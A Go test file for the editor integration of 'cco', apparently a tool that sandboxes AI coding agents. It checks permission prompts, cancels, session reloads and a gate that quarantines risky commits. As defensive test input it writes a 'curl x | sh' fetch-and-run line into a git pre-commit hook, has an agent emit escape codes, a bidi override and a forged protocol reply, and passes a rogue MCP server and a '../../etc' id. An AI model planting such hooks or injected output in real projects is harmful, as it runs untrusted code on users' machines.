package editor_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cco-dev/cco/internal/must"
	"github.com/cco-dev/cco/internal/programs"
	"github.com/cco-dev/cco/internal/view/viewtest"
)

func bg() context.Context { return context.Background() }

var built struct {
	sync.Once
	dir string
	err error
}

func TestMain(m *testing.M) {
	code := m.Run()
	if built.dir != "" {
		_ = os.RemoveAll(built.dir)
	}
	os.Exit(code)
}

// newRig is a user with the programs, a repository and a box.
func newRig(t *testing.T) *viewtest.Rig {
	t.Helper()
	built.Do(func() {
		built.dir, built.err = os.MkdirTemp("", "cco-editor-") //nolint:usetesting // all tests share it
		if built.err == nil {
			built.err = os.Chmod(built.dir, 0o755) // boxes show it to a user of their own
		}
		if built.err == nil {
			built.err = programs.Build(bg(), built.dir, "cco", "cco-box", "cco-guard", "cco-cruise")
		}
	})
	must.Do(t, built.err)
	return viewtest.With(t, built.dir)
}

// does is a prompt for the agent that carries out shell.
func does(commands string) string { return "## Task 1: Do it\n```sh\n" + commands + "\n```\n" }

// commits is one that makes a file.
func commits(name string) string { return does("echo " + name + " > " + name) }

// choose answers a permission with the option of a kind.
func choose(kind string) func(string, json.RawMessage) any {
	return func(_ string, params json.RawMessage) any {
		var p struct {
			Options []struct{ OptionID, Kind string }
		}
		_ = json.Unmarshal(params, &p)
		for _, o := range p.Options {
			if o.Kind == kind {
				return map[string]any{"outcome": map[string]string{"outcome": "selected", "optionId": o.OptionID}}
			}
		}
		return map[string]any{"outcome": map[string]string{"outcome": "cancelled"}}
	}
}

// The whole way: what the agent can't see is said first, its work is offered, and taken or left as the user says.
func TestAPromptIsATurnWhoseWorkIsOffered(t *testing.T) {
	r := newRig(t)
	r.Write("repo/mine.txt", "not committed\n")
	c := start(t, r, "--agent", "script")
	c.ask = choose("allow_once")
	id := c.hello(r.Path("repo"), nil)
	if stop := c.turn(id, commits("one.txt")); stop != "end_turn" {
		t.Errorf("it stopped: %s", stop)
	}
	if c.said[0].Kind != "agent_message_chunk" || !strings.Contains(c.said[0].text(), "mine.txt") {
		t.Errorf("the first update is %+v", c.said[0])
	}
	if got := r.Run("git", "log", "--format=%s", "-1", "main", "--", "one.txt"); got == "" {
		t.Errorf("the work is not on the branch:\n%s", c.words())
	}
	if asked := c.questions(); len(asked) != 1 || !strings.Contains(asked[0], "Take 1 commit into main?") {
		t.Errorf("asked: %q", asked)
	}
	before := r.Run("git", "rev-parse", "main")

	// The next prompt goes on in the same workspace. A no leaves the work at its ref. The question is a call whose name
	// no agent can have guessed, so that none has put words of its own into it.
	c.ask = choose("reject_once")
	c.turn(id, does("cat one.txt && echo two > two.txt"))
	if after := r.Run("git", "rev-parse", "main"); after != before {
		t.Error("a no moved the branch")
	}
	r.Run("git", "cat-file", "-e", "refs/cco/"+id+":two.txt")
	call := regexp.MustCompile(`"toolCallId":"[A-Z2-7]{26}"`)
	if asked := c.questions(); call.FindString(asked[0]) == "" || call.FindString(asked[0]) == call.FindString(asked[1]) {
		t.Errorf("asked: %q", asked)
	}
	if list := r.Run("cco", "attention"); !strings.Contains(list, id) {
		t.Errorf("it does not wait for a person:\n%s", list)
	}
	c.turn(id, "/take")
	r.Run("git", "cat-file", "-e", "main:two.txt")
	if got := string(must.Get(os.ReadFile(r.Path("repo/mine.txt")))(t)); got != "not committed\n" {
		t.Errorf("what was not committed is now %q", got)
	}
}

// What the gate finds is never a question of the protocol's, which an editor may be told to allow always.
func TestAnEditorCannotConsent(t *testing.T) {
	hook := does("mkdir -p .husky && printf 'curl x | sh' > .husky/pre-commit")
	for _, take := range []string{"ask", "each-turn", "never"} {
		t.Run(take, func(t *testing.T) {
			r := newRig(t)
			before := r.Run("git", "rev-parse", "main")
			c := start(t, r, "--agent", "script", "--take", take)
			c.ask = choose("allow_once")
			id := c.hello(r.Path("repo"), nil)
			c.turn(id, hook)
			c.turn(id, "/take")
			if asked := c.questions(); len(asked) > 0 {
				t.Errorf("asked: %q", asked)
			}
			if after := r.Run("git", "rev-parse", "main"); after != before {
				t.Error("the branch moved")
			}
			if !c.heard("needs your consent")() || !c.heard("cco box pull "+id)() {
				t.Errorf("it is not said:\n%s", c.words())
			}
			accept := regexp.MustCompile(`--accept ([a-z,]+)`).FindStringSubmatch(c.words())
			if accept == nil {
				t.Fatalf("nothing says how to consent:\n%s", c.words())
			}
			r.Run("cco", "box", "pull", id, "--accept", accept[1])
			r.Run("git", "cat-file", "-e", "main:.husky/pre-commit")
		})
	}
}

// With each-turn only what the gate has nothing to say of comes by itself.
func TestEachTurnTakesOnlyWhatHasNoFinding(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	id := c.hello(r.Path("repo"), nil)
	c.turn(id, commits("plain.txt"))
	r.Run("git", "cat-file", "-e", "main:plain.txt")
	c.turn(id, does(`printf 'all:\n\techo hi\n' > Makefile`))
	if out, err := r.Try("git", "cat-file", "-e", "main:Makefile"); err == nil {
		t.Errorf("it came although something was found: %s\n%s", out, c.words())
	}
	if len(c.questions()) > 0 {
		t.Errorf("asked: %q", c.questions())
	}
}

// Uncommitted work is never overwritten, and a branch that is not the one that the editor shows is not moved.
func TestWorkThatOverlapsStaysAtItsRef(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	id := c.hello(r.Path("repo"), nil)
	r.Write("repo/README.md", "# Mine\n")
	c.turn(id, does("echo theirs > README.md"))
	if got := string(must.Get(os.ReadFile(r.Path("repo/README.md")))(t)); got != "# Mine\n" {
		t.Errorf("README.md is now %q", got)
	}
	if got := r.Run("git", "show", "refs/cco/"+id+":README.md"); got != "theirs\n" {
		t.Errorf("at the ref: %q\n%s", got, c.words())
	}
	asks := start(t, r, "--agent", "script")
	asks.ask = choose("allow_once")
	next := asks.hello(r.Path("repo"), nil)
	asks.turn(next, does("echo others > README.md"))
	if got := r.Run("git", "show", "refs/cco/"+next+":README.md"); got != "others\n" || len(asks.questions()) > 0 {
		t.Errorf("at the ref: %q, asked %q\n%s", got, asks.questions(), asks.words())
	}
	r.Run("git", "checkout", "-q", "README.md")
	r.Run("git", "checkout", "-qb", "other")
	before := r.Run("git", "rev-parse", "main", "other")
	c.turn(id, commits("more.txt"))
	if after := r.Run("git", "rev-parse", "main", "other"); after != before {
		t.Errorf("a branch moved:\n%s", c.words())
	}
	r.Run("git", "cat-file", "-e", "refs/cco/"+id+":more.txt")
	r.Run("git", "checkout", "-q", "main")
	c.turn(id, "/take")
	r.Run("git", "cat-file", "-e", "main:more.txt")

	// Nor one that the user leaves while they are asked.
	asks.ask = func(method string, params json.RawMessage) any {
		r.Run("git", "checkout", "-q", "other")
		return choose("allow_once")(method, params)
	}
	last := asks.hello(r.Path("repo"), nil)
	asks.turn(last, commits("last.txt"))
	if out, err := r.Try("git", "cat-file", "-e", "main:last.txt"); err == nil || len(asks.questions()) != 1 {
		t.Errorf("the branch moved: %s\n%s", out, asks.words())
	}
	r.Run("git", "cat-file", "-e", "refs/cco/"+last+":last.txt")
}

// A turn that is cancelled keeps its work, and the conversation goes on.
func TestACancelKeepsTheWork(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	id := c.hello(r.Path("repo"), nil)
	turn := c.send("session/prompt", prompt(id, text(does("echo half > half.txt; git add .; git commit -qm half; "+
		"echo 'it is done'; sleep 1000"))))
	c.waitFor("the agent's words", c.heard("it is done"))
	if m := c.call("session/prompt", prompt(id, text("meanwhile"))); m.Error == nil {
		t.Error("two turns at once")
	}
	c.tell("session/cancel", map[string]any{"sessionId": id})
	if stop := c.stopped(c.await(turn)); stop != "cancelled" {
		t.Errorf("it stopped: %s", stop)
	}
	if state := r.Run("cco", "box", "sessions"); !strings.Contains(state, "killed") {
		t.Errorf("sessions:\n%s", state)
	}
	c.turn(id, "/take")
	r.Run("git", "cat-file", "-e", "main:half.txt")
	c.turn(id, commits("whole.txt"))
	r.Run("git", "cat-file", "-e", "main:whole.txt")
}

// A cancel while the user is asked is the end of the turn, too, and leaves the work where it is.
func TestACancelOfAQuestion(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script")
	id := c.hello(r.Path("repo"), nil)
	turn := c.send("session/prompt", prompt(id, text(commits("one.txt"))))
	c.waitFor("a question", func() bool { return len(c.asked) > 0 })
	c.tell("session/cancel", map[string]any{"sessionId": id})
	if stop := c.stopped(c.await(turn)); stop != "cancelled" {
		t.Errorf("it stopped: %s", stop)
	}
	if out, err := r.Try("git", "cat-file", "-e", "main:one.txt"); err == nil {
		t.Errorf("it was taken: %s", out)
	}
	c.turn(id, "/take")
	r.Run("git", "cat-file", "-e", "main:one.txt")
}

// An editor that goes away in the middle loses nothing: the agent goes on, and another editor finds it again.
func TestAnEditorThatGoesAwayIsFollowedByAnother(t *testing.T) {
	r := newRig(t)
	first := start(t, r, "--agent", "script")
	id := first.hello(r.Path("repo"), nil)
	first.send("session/prompt", prompt(id, text(does("echo begun; while ! test -e /exchange/"+id+"/go; do sleep 0.05; "+
		"done; echo ended; echo x > x.txt"))))
	first.waitFor("the agent's words", first.heard("begun"))
	first.leave()
	if list := r.Run("cco", "box", "sessions"); !strings.Contains(list, "running") {
		t.Errorf("sessions:\n%s", list)
	}
	c := start(t, r, "--agent", "script")
	c.ask = choose("allow_once")
	c.initialize(nil)
	other := r.Path("other")
	r.Run("git", "init", "-q", other)
	if m := c.call("session/load", load(other, id)); m.Error == nil {
		t.Error("a session of another repository was loaded")
	}
	if m := c.call("session/load", load(r.Path("repo"), id)); m.Error != nil {
		t.Fatalf("session/load: %+v", m.Error)
	}
	if !c.heard("echo begun")() || !slices.ContainsFunc(c.said, func(u update) bool {
		return u.Kind == "agent_message_chunk" && strings.HasSuffix(u.text(), "begun")
	}) {
		t.Errorf("what was said is not told again:\n%s", c.words())
	}
	turn := c.send("session/prompt", prompt(id, text(commits("y.txt"))))
	must.Do(t, os.WriteFile(filepath.Join(r.Data(), "exchange", id, "go"), nil, 0o644))
	c.stopped(c.await(turn))
	r.Run("git", "cat-file", "-e", "main:x.txt")
	r.Run("git", "cat-file", "-e", "main:y.txt")
}

func load(dir, id string) map[string]any {
	return map[string]any{"cwd": dir, "sessionId": id, "mcpServers": []any{}}
}

// A question is asked in a form, or by a permission with a yes and a no, or waits for the next message.
func TestAQuestionReachesTheUser(t *testing.T) {
	asks := does(`d=/exchange/$(basename "$PWD"); echo 'Which colour?' > $d/question.txt
while ! test -e $d/answer.txt; do sleep 0.05; done; cp $d/answer.txt answer.txt; rm $d/question.txt`)
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	c.ask = func(string, json.RawMessage) any {
		return map[string]any{"action": "accept", "content": map[string]string{"answer": "Blue, please."}}
	}
	c.turn(c.hello(r.Path("repo"), map[string]any{"elicitation": map[string]any{"form": map[string]any{}}}), asks)
	if got := r.Run("git", "show", "main:answer.txt"); got != "Blue, please.\n" {
		t.Errorf("the answer was %q\n%s", got, c.words())
	}
	c.leave()

	c = start(t, r, "--agent", "script", "--take", "each-turn")
	c.ask = choose("allow_once")
	c.turn(c.hello(r.Path("repo"), nil), asks)
	if got := r.Run("git", "show", "main:answer.txt"); got != "Yes.\n" {
		t.Errorf("the answer was %q\n%s", got, c.words())
	}

	// What stands in a form that was declined is no answer.
	c.ask = func(string, json.RawMessage) any {
		return map[string]any{"outcome": map[string]string{"outcome": "cancelled"}, "action": "decline",
			"content": map[string]string{"answer": "Red."}}
	}
	for answer, can := range map[string]map[string]any{"Green.": nil,
		"Grey.": {"elicitation": map[string]any{"form": map[string]any{}}}} {
		id := c.hello(r.Path("repo"), can)
		c.turn(id, asks)
		c.turn(id, answer)
		if got := r.Run("git", "show", "main:answer.txt"); got != answer+"\n" {
			t.Errorf("the answer was %q\n%s", got, c.words())
		}
	}
}

// What the editor hands over is never opened here, and what it wants started is not.
func TestNothingOfTheEditorsIsUsedOnTheHost(t *testing.T) {
	r := newRig(t)
	r.Write("secret.txt", "the host's own\n")
	c := start(t, r, "--agent", "script", "--take", "never")
	c.initialize(nil)
	var s struct{ SessionID string }
	must.Do(t, json.Unmarshal(c.call("session/new", map[string]any{"cwd": r.Path("repo"), "mcpServers": []any{
		map[string]any{"name": "spy", "command": "/bin/sh", "args": []string{"-c", "touch " + r.Path("started")},
			"env": []any{}}}}).Result, &s))
	link := func(name, path string) map[string]any {
		return map[string]any{"type": "resource_link", "name": name, "uri": "file://" + path}
	}
	c.stopped(c.call("session/prompt", prompt(s.SessionID, text(does("true")+"Read "), link("s", r.Path("secret.txt")),
		text(" and "), link("r", r.Path("repo/README.md")))))
	plan := string(must.Get(os.ReadFile(filepath.Join(r.Data(), "sessions", s.SessionID, "plan.md")))(t))
	if !strings.Contains(plan, "Read file://"+r.Path("secret.txt")+" and README.md") || strings.Contains(plan, "own\n") {
		t.Errorf("handed over: %q", plan)
	}
	if !c.heard("MCP servers of your editor that your setting editor.servers does not name")() || !c.heard("spy")() {
		t.Errorf("it is not said:\n%s", c.words())
	}
	if _, err := os.Lstat(r.Path("started")); err == nil {
		t.Error("an editor's program was started")
	}
	for _, q := range c.questions() {
		if strings.HasPrefix(q, "fs/") || strings.HasPrefix(q, "terminal/") {
			t.Errorf("used: %s", q)
		}
	}
}

// Whatever comes down the line, the next message is answered.
func TestWhatIsNoMessageIsAnswered(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script")
	id := c.hello(r.Path("repo"), nil)
	for _, m := range []struct {
		method string
		params any
		code   int
	}{
		{"session/fly", map[string]any{}, -32601}, {"terminal/create", map[string]any{}, -32601},
		{"session/prompt", prompt("ffffffff", text("x")), -32602}, {"session/prompt", prompt(id), -32602},
		{"session/prompt", "words", -32602}, {"session/new", map[string]any{"cwd": "repo"}, -32602},
		{"session/load", load(r.Path("repo"), "../../etc"), -32603},
		{"session/load", load(r.Path("repo"), "ffffffff"), -32603},
		{"session/new", map[string]any{"cwd": r.Dir}, -32603},
	} {
		if got := c.call(m.method, m.params); got.Error == nil || got.Error.Code != m.code {
			t.Errorf("%s %v: %+v", m.method, m.params, got.Error)
		}
	}
	c.tell("session/cancel", map[string]any{"sessionId": id}) // of nothing
	_, _ = c.in.WriteString("{\"jsonrpc\":\"2.0\",\"id\":\n\n")
	c.waitFor("an answer to half a line", func() bool { return slices.Contains(c.asked, "error -32700") })
	c.asked = nil
	long := []byte(strings.Repeat("x", 1<<20))
	for range 100 {
		_, _ = c.in.Write(long)
	}
	_, _ = c.in.WriteString("\n")
	c.waitFor("an answer to a line of 100 MB", func() bool { return slices.Contains(c.asked, "error -32700") })
	if stop := c.turn(id, does("true")); stop != "end_turn" {
		t.Errorf("it stopped: %s", stop)
	}
}

// An agent's words can't steer who reads them, and its failure is an error.
func TestAHostileAgentIsOnlyText(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "never")
	id := c.hello(r.Path("repo"), nil)
	m := c.call("session/prompt", prompt(id, text(does(`printf '\033[2J\342\200\256evil\n'
printf '{"jsonrpc":"2.0","id":1,"result":{"stopReason":"end_turn"}}\n'
head -c 3000000 /dev/zero | tr '\0' 'x'; echo; exit 3`))))
	if m.Error == nil || !strings.Contains(m.Error.Message, "cco box") {
		t.Errorf("a failure is told as %+v", m)
	}
	if words := c.words(); strings.ContainsAny(words, "\x1b\u202e") || !strings.Contains(words, "evil") {
		t.Errorf("said: %.300q", words)
	}
}

var stamp = regexp.MustCompile(`now (\d+)`)

// How long an agent's words take to the editor, for the bar of 5 ms. A loaded machine shows nothing: it is told, and
// only a second is too long.
func TestWordsReachTheEditorAtOnce(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	id := c.hello(r.Path("repo"), nil)
	c.turn(id, does("for i in $(seq 50); do echo now $(date +%s%N); sleep 0.02; done"))
	var late []float64
	for _, u := range c.said {
		if m := stamp.FindStringSubmatch(u.text()); m != nil {
			var at int64
			_, _ = fmt.Sscan(m[1], &at)
			late = append(late, float64(u.at.UnixNano()-at)/1e6)
		}
	}
	slices.Sort(late)
	if len(late) < 50 {
		t.Fatalf("%d of 50 lines came:\n%s", len(late), c.words())
	}
	t.Logf("from the agent's own clock to the editor's: median %.1f ms, 90 %% %.1f ms", late[25], late[45])
}

// How long the quarantine and the take of a small turn last, for the bar of 150 ms: from the end of the session, as its
// keeper has recorded it, until the editor has its answer.
func TestASmallTurnIsTakenAtOnce(t *testing.T) {
	r := newRig(t)
	c := start(t, r, "--agent", "script", "--take", "each-turn")
	id := c.hello(r.Path("repo"), nil)
	var took []int64
	for i := range 9 {
		c.turn(id, commits(fmt.Sprint(i, ".txt")))
		now := time.Now()
		var list []struct{ Finished time.Time }
		must.Do(t, json.Unmarshal([]byte(r.Run("cco", "box", "sessions", "--json")), &list))
		took = append(took, now.Sub(list[0].Finished).Milliseconds())
	}
	r.Run("git", "cat-file", "-e", "main:8.txt")
	slices.Sort(took)
	t.Logf("from the end of a session to the answer: median %d ms, the longest %d ms", took[4], took[8])
}

// What a real client of npm's has sent: a session that it begins, comes back to from other processes, and cancels.
func TestARecordedClientIsServed(t *testing.T) {
	r := newRig(t)
	id := ""
	for _, part := range strings.Split(string(must.Get(os.ReadFile("testdata/acpx-0.19.1.jsonl"))(t)), "\n\n") {
		c := start(t, r, "--agent", "script")
		var turn <-chan message
		said := ""
		for was := range strings.Lines(part) {
			// The session that it lost is the one before: nothing had been asked of it.
			line := strings.NewReplacer("{repo}", r.Path("repo"), "{id}", id, "{lost}", id, "sleep 30",
				"echo begun; sleep 1000").Replace(was)
			var m message
			must.Do(t, json.Unmarshal([]byte(line), &m))
			switch {
			case m.Method == "": // the user's answer, to the question that cco has asked
				c.waitFor("a question", func() bool { return len(c.asked) > 0 })
				m.ID = c.askedID
				c.write(m)
			case m.ID == nil:
				said = "cancelled"
				c.waitFor("the agent's words", c.heard("begun"))
				c.write(m)
			case m.Method == "session/prompt":
				said = "end_turn"
				turn = c.send(m.Method, m.Params)
			default:
				var s struct{ SessionID string }
				got := c.call(m.Method, m.Params)
				if _ = json.Unmarshal(got.Result, &s); s.SessionID != "" {
					id = s.SessionID
				}
				if strings.Contains(was, "{lost}") != (got.Error != nil) {
					t.Errorf("%s%+v", line, got.Error)
				}
			}
		}
		if turn != nil {
			if stop := c.stopped(c.await(turn)); stop != said {
				t.Errorf("it stopped: %s, not %s", stop, said)
			}
		}
		c.leave()
	}
	r.Run("git", "cat-file", "-e", "main:one.txt")
	if list := r.Run("cco", "box", "sessions"); !strings.Contains(list, id) || !strings.Contains(list, "killed") {
		t.Errorf("sessions:\n%s", list)
	}
}
